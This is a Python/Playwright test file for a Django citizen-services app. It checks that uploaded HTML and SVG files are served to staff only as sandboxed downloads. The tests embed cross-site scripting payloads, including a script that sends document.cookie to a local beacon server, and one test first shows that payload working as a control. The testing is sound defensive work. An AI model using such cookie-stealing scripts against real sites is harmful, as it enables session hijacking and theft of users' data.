"""Citizens' files are never run in a staff member's session: sniffed type, download, sandbox."""

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from django.test import Client
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from loket.applications.tests.conftest import jpeg_bytes
from loket.conftest import Citizen, run_tasks, staff_login, wait_for
from loket.inbox.models import CitizenMedia

HTML = b"<!doctype html><html><body><h1>KTP</h1><script>%s</script></body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>%s</script><rect width='10' height='10'/></svg>"
)


def sends(client, fake_graph, media_id: str, data: bytes, mime: str, kind="document"):
    fake_graph.media[media_id] = (data, mime)
    Citizen(client).post({"type": kind, kind: {"id": media_id, "mime_type": mime}})
    run_tasks()
    media = CitizenMedia.objects.get(media_id=media_id)
    assert media.state == CitizenMedia.State.STORED
    return media


def staff_client(username: str = "sari") -> Client:
    client = Client()
    assert client.login(username=username, password="rahasia-123")
    return client


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("body", "declared"),
    [
        (HTML % b"alert(1)", "text/html"),
        (HTML % b"alert(1)", "image/jpeg"),
        (SVG % b"1", "image/svg+xml"),
    ],
)
def test_a_script_file_is_stored_as_what_it_is_and_only_downloaded(
    client, office, fake_graph, personas, body, declared
):
    media = sends(client, fake_graph, "EVIL-1", body, declared)
    assert media.mime == "application/octet-stream"  # not the phone's word for it

    response = staff_client().get(f"/staf/inbox/berkas/{media.pk}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Disposition"].endswith('.bin"')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox;")
    assert response.content == body  # the bytes are kept, only never run


@pytest.mark.django_db
def test_a_photo_is_shown_inline_but_still_sandboxed(client, office, fake_graph, personas):
    media = sends(client, fake_graph, "PHOTO-9", jpeg_bytes(), "text/html", kind="image")
    assert media.mime == "image/jpeg"
    response = staff_client().get(f"/staf/inbox/berkas/{media.pk}/")
    assert response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"].startswith("inline;")
    assert "sandbox" in response["Content-Security-Policy"]


def test_no_view_builds_its_own_file_response():
    """Stored files go through loket.core.files.stored_file_response, files Loket draws itself
    through made_file_response: no view sets its own Content-Disposition."""
    root = Path(__file__).resolve().parents[2]
    found = {}
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if "/tests/" not in relative and relative != "core/files.py":
            count = len(re.findall(r"\[.Content-Disposition.\]\s*=", path.read_text()))
            if count:
                found[relative] = count
    assert found == {}


class _Beacon:
    """A tiny HTTP server that records every request a script in the browser might make."""

    def __init__(self) -> None:
        hits = self.hits = []
        self.control = b""
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                if self.path == "/control":  # the citizen's file as an ordinary web page
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                    self.end_headers()
                    self.wfile.write(beacon.control)
                    return
                if self.path == "/favicon.ico":  # the browser's own request for the control page
                    self.send_response(404)
                    self.end_headers()
                    return
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("kind", ["html", "svg"])
def test_a_citizens_html_or_svg_opened_by_staff_runs_nothing(
    live_server, page, fake_graph, office, personas, kind
):
    beacon = _Beacon()
    try:
        script = (
            "localStorage.setItem('pwned','1');"
            f"new Image().src='{beacon.url}/stolen-img';"
            f"fetch('{beacon.url}/stolen?c='+document.cookie);"
        ).encode()
        body = (HTML if kind == "html" else SVG) % script
        mime = "text/html" if kind == "html" else "image/svg+xml"
        media = sends(Client(), fake_graph, f"EVIL-{kind}", body, mime)

        # the control: served as an ordinary page, the script does its harm in this browser
        beacon.control = body
        page.goto(f"{beacon.url}/control")
        assert page.evaluate("() => localStorage.getItem('pwned')") == "1"
        wait_for(lambda: any(hit.startswith("/stolen") for hit in beacon.hits))
        page.evaluate("() => localStorage.clear()")
        beacon.hits.clear()

        staff_login(page, live_server.url, "sari")
        page.wait_for_url(f"{live_server.url}/staf/")
        url = f"{live_server.url}/staf/inbox/berkas/{media.pk}/"
        try:
            with page.expect_download(timeout=5_000) as download:
                page.evaluate("url => { window.location.href = url }", url)
            assert download.value.suggested_filename.endswith(".bin")
        except PlaywrightTimeout:  # shown, not downloaded: it still must not have run
            page.wait_for_load_state()
        page.goto(f"{live_server.url}/staf/")
        assert page.evaluate("() => localStorage.getItem('pwned')") is None
        assert beacon.hits == []
    finally:
        beacon.stop()
